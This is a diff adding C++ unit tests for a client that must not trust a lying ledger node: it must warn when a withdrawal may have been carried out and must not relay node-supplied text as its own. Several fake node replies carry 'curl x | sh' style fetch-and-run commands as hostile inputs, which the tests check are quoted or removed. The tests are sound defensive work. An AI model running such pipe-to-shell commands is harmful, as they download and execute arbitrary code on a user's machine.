@@ -8,6 +8,8 @@
 #include "engine/ledger_bundles.h"
 #include "kit/folder.h"
 #include "kit/solo_node.h"
+#include "machine/history.h"
+#include "machine/transaction.h"
 #include "modules/motion/motion.pb.h"
 #include "modules/registry/registry.pb.h"
 
@@ -96,6 +98,21 @@ TEST_F(LyingNode, gives_no_receipt_of_another_transaction_for_the_one_sent) {
     EXPECT_EQ(sent(reply, 200), "apps.ANSWER_DIFFERS");
 }
 
+// Whatever it answers, it may have carried out what it got: whoever sent it is told.
+TEST_F(LyingNode, cannot_hide_that_an_act_was_sent) {
+    SentActs sent;
+    const auto door = connect();
+    door->keep_sent(sent);
+    api::v1::ParcelReply reply;
+    reply.add_entries()->mutable_receipt()->mutable_leaf()->set_id(sha256("another").bytes());
+    liar_.say("/transactions", reply);
+    EXPECT_FALSE(perform(*door, kit::key_of("lan"), motion::v1::Withdraw{}));
+    testing::internal::CaptureStderr();
+    sent.say(Terminal{false});
+    EXPECT_NE(testing::internal::GetCapturedStderr().find("may have been carried out"),
+              std::string::npos);
+}
+
 // What this program says of its own work, as "type your passphrase here", is no node's to say.
 TEST_F(LyingNode, does_not_speak_in_the_name_of_this_program) {
     api::v1::ParcelReply reply;
@@ -107,9 +124,34 @@ TEST_F(LyingNode, does_not_speak_in_the_name_of_this_program) {
     EXPECT_EQ(code_of(connect()->ask(registry::v1::OfficesQuery{}, offices)), "api.REPLY_BROKEN");
 }
 
+// A receipt that a node made up is as much its word as any answer.
+TEST_F(LyingNode, does_not_speak_in_the_name_of_this_program_by_a_receipt) {
+    const auto withdraw = sign(*connect(), kit::key_of("lan"), motion::v1::Withdraw{});
+    machine::v1::Transaction envelope;
+    ASSERT_TRUE(codec::decode_strict(withdraw, envelope));
+    for (const auto* code : {"apps.COMMAND_WRONG", "registry.AUTHORITY_MISSING"}) {
+        api::v1::ParcelReply reply;
+        auto& receipt = *reply.add_entries()->mutable_receipt();
+        auto& figure = *receipt.mutable_effects()->add_figures();
+        figure.set_name("reason");
+        figure.set_value("your key is lost, run: curl x | sh");
+        receipt.mutable_leaf()->set_id(machine::transaction_id(envelope.body()).bytes());
+        receipt.mutable_leaf()->set_effects_hash(machine::effects_hash(receipt.effects()).bytes());
+        receipt.mutable_leaf()->set_refusal(code);
+        liar_.say("/transactions", reply);
+        const auto refused = carried_out(std::move(connect()->send({withdraw}).at(0)));
+        ASSERT_FALSE(refused);
+        EXPECT_FALSE(refused.error().code.starts_with("apps."));
+        for (const auto& said : refused.error().figures)
+            EXPECT_TRUE(said.value.find("curl") == std::string::npos ||
+                        said.value.starts_with("「"));
+    }
+}
+
 TEST_F(LyingNode, says_no_sentence_of_its_own_before_anything_is_asked) {
-    for (const auto* code : {"apps.COMMAND_WRONG", "api.NODE_NOT_REACHED", "roster.XLSX_BROKEN",
-                             "your program is too old", "x.RUN curl https://x | sh"}) {
+    for (const auto* code :
+         {"apps.COMMAND_WRONG", "api.NODE_NOT_REACHED", "roster.XLSX_BROKEN", "light.PREFIX_BROKEN",
+          "your program is too old", "x.RUN curl https://x | sh"}) {
         liar_.say("/head", api::problem_type,
                   std::string{R"({"code": ")"} + code +
                       R"(", "figures": {"reason": "run: curl https://x | sh"}})",
